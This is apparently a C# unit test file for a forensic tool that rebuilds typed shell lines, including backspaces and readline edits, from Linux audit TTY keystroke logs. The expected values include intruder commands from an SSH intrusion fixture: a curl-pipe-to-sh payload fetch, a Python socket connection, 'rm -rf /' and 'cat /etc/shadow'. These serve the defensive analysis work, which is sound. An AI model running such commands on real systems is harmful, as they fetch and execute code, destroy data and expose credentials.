using System.Text;
using AuditSentinel.Parsing.Tty;
using AuditSentinel.TestSupport;

namespace AuditSentinel.Parsing.Tests.Tty;

public class TtyLineReconstructorTests
{
    [Fact]
    public async Task The_intruders_shell_lines_are_rebuilt_with_backspaces_applied()
    {
        var transcript = await Transcript(RepoPaths.SshIntrusionLog, 4335);

        // aureport shows "lss",<backspace>,<backspace>,"s -l /tmp",<ret>: two DELs remove "ss", leaving "l" + "s -l /tmp".
        var edited = Assert.Single(transcript.Lines, l => l.Text == "ls -l /tmp");
        Assert.Equal(TtyLineEnd.Return, edited.End);
        Assert.Equal(TtyLineEdits.Erased, edited.Edits);
        Assert.False(edited.Edited);

        // 13 <ret> and 2 <nl> in the aureport rendering: 15 lines, none left open at the end of the data.
        Assert.Equal(15, transcript.Lines.Count);
        Assert.Equal(["curl -s http://127.0.0.1:8000/payload.sh | sh &", "ls ~"], transcript.Lines.Where(l => l.End == TtyLineEnd.Newline).Select(l => l.Text), StringComparer.Ordinal);
        Assert.Equal("python3 -c \"import socket;s=socket.socket();s.connect((\\\"127.0.0.1\\\",8000))\"", transcript.Lines[6].Text);
        Assert.Equal("exit", transcript.Lines[^1].Text);
    }

    [Fact]
    public async Task A_password_typed_at_a_canonical_prompt_is_one_newline_terminated_line()
    {
        var transcript = await Transcript(RepoPaths.SshIntrusionLog, 4264);

        var line = Assert.Single(transcript.Lines);
        Assert.Equal(new TtyLine("Tulip-Field-7", TtyLineEnd.Newline, TtyLineEdits.None, 0, 14), line);
    }

    [Fact]
    public async Task Readline_cursor_moves_are_followed_and_history_and_completion_mark_lines_as_edited()
    {
        var transcript = await Transcript(RepoPaths.Fixture("go-libaudit", "auparse", "testdata", "audit-rhel7.log"), 1065565);
        var texts = transcript.Lines.Select(l => l.Text).ToList();

        // "eh",DEL,DEL,"echo test" -> "echo test".
        Assert.Equal("echo test", texts[0]);
        Assert.Equal(TtyLineEdits.Erased, transcript.Lines[0].Edits);

        // "vim /etc",^A,"sudo ",^E: "sudo " goes in front; "/pamd.sy" then five DELs leave "/pa"; "." and DEL cancel;
        // "m.d/sy",TAB,"-a",TAB,"a",DEL,"-a",TAB: the completions are unknown, so only the typed text remains.
        Assert.Equal("sudo vim /etc/pam.d/sy-a-a", texts[4]);
        Assert.Equal(TtyLineEdits.Erased | TtyLineEdits.CursorMoved | TtyLineEdits.Completion, transcript.Lines[4].Edits);
        Assert.True(transcript.Lines[4].Edited);

        // <up>,<^A>,"sudo ",<ret>: a recalled command with "sudo " prefixed; the recalled text is not in the data.
        Assert.Equal("sudo ", texts[^2]);
        Assert.Equal(TtyLineEdits.HistoryRecall | TtyLineEdits.CursorMoved, transcript.Lines[^2].Edits);
        Assert.True(transcript.Lines[^2].Edited);
        Assert.Equal("sudo su", texts[^1]);
    }

    [Theory]
    // ^U kills everything before the cursor: "rm -rf /" is gone, "ls" stays.
    [InlineData("rm -rf /\u0015ls\r", "ls", TtyLineEnd.Return, TtyLineEdits.Erased)]
    // ^W erases the blanks before the cursor, then the word before them: "cat /etc/shadow  " loses "/etc/shadow  ".
    [InlineData("cat /etc/shadow  \u0017/etc/passwd\r", "cat /etc/passwd", TtyLineEnd.Return, TtyLineEdits.Erased)]
    // ^C cancels: the text is kept for the analyst, the end says it never ran.
    [InlineData("shutdown -h now\u0003", "shutdown -h now", TtyLineEnd.Interrupt, TtyLineEdits.None)]
    // Left arrow twice then "X": inserted before the last two characters; Delete (ESC[3~) removes the one after the cursor.
    [InlineData("abcd\u001B[D\u001B[DX\u001B[3~\r", "abXd", TtyLineEnd.Return, TtyLineEdits.CursorMoved | TtyLineEdits.Erased)]
    // Typed text goes in as runs: a run typed after moving left lands before the characters passed over, one typed
    // after ^A (home) before the whole line.
    [InlineData("abcd\u001B[D\u001B[DXY\r", "abXYcd", TtyLineEnd.Return, TtyLineEdits.CursorMoved)]
    [InlineData("world\u0001hello \r", "hello world", TtyLineEnd.Return, TtyLineEdits.CursorMoved)]
    // A backspace removes a whole UTF-8 character (two bytes of "é").
    [InlineData("caf\u00E9\u007Fe\n", "cafe", TtyLineEnd.Newline, TtyLineEdits.Erased)]
    // No terminator: the line is still reported, ended by the data.
    [InlineData("echo half", "echo half", TtyLineEnd.EndOfData, TtyLineEdits.None)]
    // An F-key sequence is not modelled: dropped from the text, flagged.
    [InlineData("ls\u001B[11~\r", "ls", TtyLineEnd.Return, TtyLineEdits.OtherKeys)]
    public void Editing_keys_are_applied(string typed, string text, TtyLineEnd end, TtyLineEdits edits)
    {
        var data = Encoding.UTF8.GetBytes(typed);
        var line = Assert.Single(TtyLineReconstructor.Reconstruct(data));

        Assert.Equal(new TtyLine(text, end, edits, 0, data.Length), line);
    }

    [Fact]
    public void Lines_cover_the_data_in_order_with_their_terminators()
    {
        var data = "a\rb\u0003\nc"u8;
        var lines = TtyLineReconstructor.Reconstruct(data);

        Assert.Equal(
            [new TtyLine("a", TtyLineEnd.Return, TtyLineEdits.None, 0, 2), new TtyLine("b", TtyLineEnd.Interrupt, TtyLineEdits.None, 2, 2),
             new TtyLine("", TtyLineEnd.Newline, TtyLineEdits.None, 4, 1), new TtyLine("c", TtyLineEnd.EndOfData, TtyLineEdits.None, 5, 1)],
            lines);
    }

    private static async Task<TtyTranscript> Transcript(string log, ulong serial)
    {
        var record = (await KeystrokeRecords.ReadAsync(log)).Single(r => r.Serial == serial);
        Assert.True(TtyTranscript.TryCreate(record, out var transcript));
        return transcript;
    }
}
